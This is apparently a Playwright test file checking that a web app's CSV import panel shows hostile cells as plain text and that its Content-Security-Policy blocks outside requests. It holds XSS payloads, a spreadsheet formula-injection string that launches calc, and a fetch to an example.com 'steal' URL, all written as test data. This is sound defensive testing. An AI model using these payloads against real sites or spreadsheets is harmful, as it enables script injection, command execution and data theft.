// Hostile and bad CSV files in the Data panel of the built app (Chromium, engine in its worker):
// - cells with <img onerror>, <script>, formulas and HTML entities are shown literally in the
//   preview table; no dialog opens, no script runs, no element is created from them and the
//   page requests nothing for them;
// - a bad file (missing columns, with HTML in its header) shows the one-line message as text
//   and offers the column mapping;
// - the served page enforces its CSP: a fetch, an image and an inline script from elsewhere are refused.
import { test, expect, type Page } from '@playwright/test';

const HOSTILE = {
  title: '<img src=x onerror="window.__pwned=1;alert(1)">',
  question: '<script>window.__pwned=2;alert(2)</script> আমি একা',
  answer: `=cmd|' /C calc'!A0 <b>সাহস</b> &amp; <iframe src="javascript:alert(3)"></iframe>`,
};
const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
const CSV = [
  'Topics,Question-Title,Questions,Answers',
  ['একাকীত্ব', q(HOSTILE.title), q(HOSTILE.question), q(HOSTILE.answer)].join(','),
  'উদ্বেগ,ভয়,আমি ভয় পাই,ভয় স্বাভাবিক।',
  'উদ্বেগ,ঘুম,রাতে ঘুম আসে না,ধীরে শ্বাস নিন।',
  'দুঃখ,শোক,মন খারাপ,আমি আপনার পাশে আছি।',
].join('\n') + '\n';

async function ready(page: Page) {
  await page.goto('/');
  await expect(page.getByTestId('engine-status')).toHaveAttribute('data-status', 'ready', { timeout: 60_000 });
  await page.getByTestId('nav-data').click();
  await expect(page.getByTestId('panel-data')).toBeVisible();
}

test('hostile CSV cells are shown as text: no dialog, no script, no element, no request', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });

  await ready(page);
  await page.getByTestId('csv-input').setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(CSV) });
  const preview = page.getByTestId('data-preview');
  await expect(preview).toBeVisible({ timeout: 120_000 });
  await expect(page.getByTestId('report-kept')).toHaveAttribute('data-value', '4');

  // The cells hold the exact text (title + newline + question for the user turn).
  const row = preview.locator('tbody tr').filter({ hasText: 'window.__pwned=2' });
  await expect(row).toHaveCount(1);
  const cells = row.locator('td');
  expect(await cells.nth(2).textContent()).toBe(`${HOSTILE.title}\n${HOSTILE.question}`);
  expect(await cells.nth(3).textContent()).toBe(HOSTILE.answer);
  // Nothing was turned into markup, nothing ran, nothing was fetched for it.
  await expect(page.locator('[data-testid="panel-data"] img, [data-testid="panel-data"] script, [data-testid="panel-data"] iframe, [data-testid="panel-data"] b')).toHaveCount(0);
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(requests.filter((u) => /\/x$|javascript:/.test(u))).toEqual([]);
  expect(errors).toEqual([]);
});

test('a bad CSV shows its one-line message as text and offers the column mapping', async ({ page }) => {
  await ready(page);
  const bad = 'Topic,<b>Frage</b>,Antwort\nক,খ,গ\n';
  await page.getByTestId('csv-input').setInputFiles({ name: 'bad.csv', mimeType: 'text/csv', buffer: Buffer.from(bad) });
  const alert = page.getByTestId('data-error');
  await expect(alert).toBeVisible({ timeout: 120_000 });
  await expect(alert.locator('p').first()).toHaveText('missing column "Questions" (question) and "Answers" (answer); the file has: "Topic", "<b>Frage</b>", "Antwort"; map them with the column options');
  await expect(alert.locator('b')).toHaveCount(0);
  await expect(page.getByTestId('map-question').locator('option')).toHaveText(['—', 'Topic', '<b>Frage</b>', 'Antwort']);

  // Mapping the columns prepares the file.
  await page.getByTestId('map-question').selectOption('<b>Frage</b>');
  await page.getByTestId('map-answer').selectOption('Antwort');
  await alert.getByRole('button', { name: 'Prepare with these columns' }).click();
  await expect(page.getByTestId('report-rows')).toHaveAttribute('data-value', '1', { timeout: 120_000 });

  // Bytes that are not UTF-8: the row and column are named.
  const latin1 = Buffer.concat([Buffer.from('Topics,Question-Title,Questions,Answers\nক,খ,গ,ঘ\n'), Buffer.from('a,b,caf'), Buffer.from([0xe9]), Buffer.from(',d\n')]);
  await page.getByTestId('csv-input').setInputFiles({ name: 'latin1.csv', mimeType: 'text/csv', buffer: latin1 });
  await expect(alert.locator('p').first()).toHaveText('row 3 (line 3), column "Questions": bytes that are not valid UTF-8; save the file as UTF-8 ("CSV UTF-8" in Excel)', { timeout: 60_000 });
});

test('the page enforces its Content-Security-Policy: other origins are refused', async ({ page }) => {
  await ready(page);
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const fetched = await fetch('https://example.com/steal?x=1').then(() => 'fetched', () => 'refused');
    const img = new Image();
    img.src = 'https://example.com/pixel.png';
    document.body.appendChild(img);
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.appendChild(s);
    await new Promise((r) => setTimeout(r, 300));
    img.remove(); s.remove();
    return { fetched, seen, inline: (window as unknown as { __inline?: number }).__inline ?? null };
  });
  expect(violations.fetched).toBe('refused');
  expect(violations.inline).toBeNull();
  expect(violations.seen).toEqual(expect.arrayContaining(['connect-src https://example.com/steal?x=1', 'img-src https://example.com/pixel.png', 'script-src-elem inline']));
});
